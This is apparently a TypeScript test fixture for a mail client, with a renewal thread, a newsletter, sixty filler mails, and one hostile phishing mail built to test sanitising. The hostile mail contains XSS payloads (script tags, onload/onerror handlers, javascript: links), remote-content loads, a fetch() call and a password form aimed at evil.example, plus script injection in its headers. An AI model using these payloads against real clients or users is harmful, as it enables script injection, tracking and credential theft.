import type { Mail } from "./mailbox.ts";

export const me = "me@people.example";
const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000);

const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/style.css); body { background: url(https://evil.example/back.png) }</style>
<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/"></head>
<body onload="document.title='ran'" background="https://evil.example/body.png">
<script>document.body.textContent = 'ran'; fetch('https://evil.example/fetch')</script>
<p>Dear customer, your parcel waits.</p>
<img src="https://evil.example/parcel.png" width="200" height="80" alt="Your parcel" onerror="document.title='ran'">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<svg onload="document.title='ran'"><image href="https://evil.example/svg.png"/></svg>
<a href="javascript:document.title='ran'">Track it</a> <a href="https://evil.example/go">Collect it</a>
<div style="background-image:url(https://evil.example/div.png);position:fixed;inset:0">Nothing covers the page.</div>
</body></html>`;

const attachment = `--part
Content-Type: text/plain; charset=utf-8

Here are the renewal terms. See https://terms.example/2027 for all of them.

Shall we sign this week?

--
Anna Sand
Head of Purchasing

On Monday ${me} wrote:
> Could you send me the terms?
--part
Content-Type: text/csv; name="terms.csv"
Content-Disposition: attachment; filename="terms.csv"

item,price
seats,120
--part--`;

const anna = "Anna Sand <anna@sand-and-sons.example>";
/** A conversation that waits, a newsletter, a hostile mail, and more conversations than one page holds. */
export const mails: Mail[] = [
  { id: "r1@sand.example", from: anna, to: me, subject: "Renewal", at: daysAgo(12), body: "Shall we renew?" },
  {
    id: "r2@people.example",
    from: `Me <${me}>`,
    to: anna,
    subject: "Re: Renewal",
    at: daysAgo(10),
    headers: { "In-Reply-To": "<r1@sand.example>", References: "<r1@sand.example>" },
    body: "Gladly. Could you send me the terms?",
  },
  {
    id: "r3@sand.example",
    from: anna,
    to: me,
    subject: "Re: Renewal",
    at: daysAgo(5),
    headers: { "In-Reply-To": "<r2@people.example>", References: "<r1@sand.example> <r2@people.example>" },
    type: 'multipart/mixed; boundary="part"',
    body: attachment,
  },
  {
    id: "n1@news.example",
    from: "The Weekly <weekly@news.example>",
    to: me,
    subject: "Ten things this week",
    at: daysAgo(0.3),
    headers: {
      "List-Unsubscribe": "<https://news.example/u>",
      "List-Id": "<weekly.news.example>",
      Precedence: "bulk",
    },
    body: "Thing one.",
  },
  {
    id: "h1@evil.example",
    from: '"<img src=x onerror=alert(1)>" <parcel@evil.example>',
    to: me,
    subject: "<script>document.title='ran'</script> Your parcel",
    at: daysAgo(0.2),
    type: "text/html; charset=utf-8",
    body: hostileHtml,
  },
  ...Array.from({ length: 60 }, (_, index) => ({
    id: `note-${index}@friends.example`,
    from: `Friend ${index} <friend-${index}@friends-${index}.example>`,
    to: me,
    subject: `Lunch number ${index}`,
    at: daysAgo(0.5 + index / 200),
    body: `Are you hungry? This is lunch number ${index}.`,
  })),
];
